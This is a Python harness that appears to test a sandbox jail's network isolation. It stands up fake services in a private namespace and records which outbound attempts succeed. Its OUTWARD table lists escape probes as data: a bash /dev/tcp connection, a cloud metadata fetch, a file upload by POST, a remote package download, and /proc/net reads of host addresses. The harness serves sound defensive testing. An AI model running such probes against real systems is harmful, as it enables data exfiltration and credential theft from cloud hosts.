"""A network of its own with services on it, and what code in a jail reaches of them: run under `unshare --net`.

The host's own network is never touched: the addresses below, among them the metadata service of a cloud, exist in the
new namespace alone. Printed is what each attempt came to, in a jail as it is built and with one layer removed.
"""

from __future__ import annotations

import fcntl
import http.server
import io
import json
import socket
import struct
import threading
import zipfile
from pathlib import Path
from typing import Any

from attack_kit import batch, outcomes, run_in_a_jail

from sandbox.workspaces.jails import jail

ADDRESSES = ("192.0.2.1", "169.254.169.254")
SIXTH = "2001:db8::1"

ASK = "b'ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4city\\2cn\\0\\0\\1\\0\\1'"
OUTWARD = {
    "TCP": "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=3)",
    "TCP, IPv6": "import socket\nsocket.create_connection(('2001:db8::1', 80), timeout=3)",
    "TCP, the host's loopback": "import socket\nsocket.create_connection(('127.0.0.1', 80), timeout=3)",
    "UDP, both ways": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(3)\n"
        f"s.sendto({ASK}, ('192.0.2.1', 53))\ns.recv(512)"
    ),
    "a name": "import socket\nsocket.getaddrinfo('upload.example', 80, socket.AF_INET)",
    "the metadata service": (
        "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=3).read()"
    ),
    "TCP by a program": (
        "import subprocess\nsubprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/192.0.2.1/80'], check=True, stderr=-3)"
    ),
    "a package posted to an index": (
        "import http.client\nc = http.client.HTTPConnection('192.0.2.1', timeout=3)\n"
        'part = \'--x\\r\\nContent-Disposition: form-data; name="content"; filename="a.whl"\\r\\n\'\n'
        "part += '\\r\\nrows\\r\\n--x--\\r\\n'\n"
        "c.request('POST', '/legacy/', part, {'Content-Type': 'multipart/form-data; boundary=x'})\n"
        "assert c.getresponse().status == 200"
    ),
    "a package fetched from an index": (
        "import io, urllib.request, zipfile\nurl = 'http://192.0.2.1/parcel-1-py3-none-any.whl'\n"
        "zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(url, timeout=3).read())).extract('parcel.py', '/tmp')"
    ),
    "an abstract socket of the host": (
        "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0service-of-the-host')"
    ),
    "the host's addresses": "assert '192.0.2.1' in open('/proc/net/fib_trie').read()",
    "who listens on the host": (
        "lines = open('/proc/net/tcp').read().splitlines()[1:]\nassert [x for x in lines if x.split()[3] == '0A']"
    ),
}
"""What tries to leave, each answered by a service in the small world."""

PING = {
    "ICMP echo": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.settimeout(3)\n"
        "s.sendto(bytes((8, 0, 0, 0, 0, 1, 0, 1)), ('192.0.2.1', 0))\ns.recv(100)"
    )
}


def raise_network() -> None:
    """Give the new namespace's loopback its addresses, and let everybody there ping."""
    with socket.socket() as plain, socket.socket(socket.AF_INET6) as sixth:
        for number, address in enumerate(("127.0.0.1", *ADDRESSES)):
            name = f"lo:{number}".encode() if number else b"lo"
            said = struct.pack("16sH2s4s8s", name, socket.AF_INET, b"", socket.inet_aton(address), b"")
            fcntl.ioctl(plain, 0x8916, said)
            fcntl.ioctl(plain, 0x8914, struct.pack("16sH14s", name, 0x41, b""))
        fcntl.ioctl(sixth, 0x8916, socket.inet_pton(socket.AF_INET6, SIXTH) + struct.pack("=Ii", 128, 1))
    Path("/proc/sys/net/ipv4/ping_group_range").write_text("0 2147483647")


def make_wheel() -> bytes:
    """Return a package of one empty module."""
    buffer, inside = io.BytesIO(), "parcel-1.dist-info"
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("parcel.py", "")
        archive.writestr(f"{inside}/METADATA", "Metadata-Version: 2.1\nName: parcel\nVersion: 1\n")
        archive.writestr(f"{inside}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{inside}/RECORD", "")
    return buffer.getvalue()


class Index(http.server.BaseHTTPRequestHandler):
    """A package index that takes and gives everything."""

    def do_GET(self) -> None:
        self.say(make_wheel() if self.path.endswith(".whl") else b'<a href="/parcel-1-py3-none-any.whl">parcel</a>')

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.say(b"taken")

    def say(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None: ...


class SixthServer(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6


def answer_names(channel: socket.socket) -> None:
    """Answer every question for a name with one address."""
    while True:
        asked, peer = channel.recvfrom(512)
        found = b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04" + socket.inet_aton("192.0.2.1")
        end = asked.index(b"\0", 12) + 5
        first = asked[end - 4 : end - 2] == b"\0\x01"
        head = asked[:2] + b"\x81\x80\0\x01" + (b"\0\x01" if first else b"\0\0") + b"\0\0\0\0"
        channel.sendto(head + asked[12:end] + (found if first else b""), peer)


def serve() -> tuple[socket.socket, ...]:
    """Start the services; return what must stay open."""
    for address in ("127.0.0.1", *ADDRESSES):
        server = http.server.ThreadingHTTPServer((address, 80), Index)
        threading.Thread(target=server.serve_forever, daemon=True).start()
    threading.Thread(target=SixthServer((SIXTH, 80), Index).serve_forever, daemon=True).start()
    names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    names.bind(("192.0.2.1", 53))
    threading.Thread(target=answer_names, args=(names,), daemon=True).start()
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0service-of-the-host")
    abstract.listen(20)
    return names, abstract


def main() -> None:
    """Print what every attempt comes to: as jails are built, in the network of this process, and pings apart."""
    raise_network()
    kept = serve()
    # A resolver that would answer, so that names fail for the network alone.
    jail.ETC.update({"/etc/resolv.conf": "nameserver 192.0.2.1\n", "/etc/nsswitch.conf": "hosts: files dns\n"})
    ways: dict[str, tuple[dict[str, str], dict[str, Any]]] = {
        "held": (OUTWARD, {}), "free": (OUTWARD, {"more": ("--share-net",)}),
        "ping held": (PING, {}), "ping without filter": (PING, {"unfiltered": True}),
        "ping with network": (PING, {"more": ("--share-net",)}),
        "ping free": (PING, {"more": ("--share-net",), "unfiltered": True}),
    }  # fmt: skip
    print(json.dumps({way: outcomes(run_in_a_jail(batch(tries), **removed)) for way, (tries, removed) in ways.items()}))
    del kept


if __name__ == "__main__":
    main()
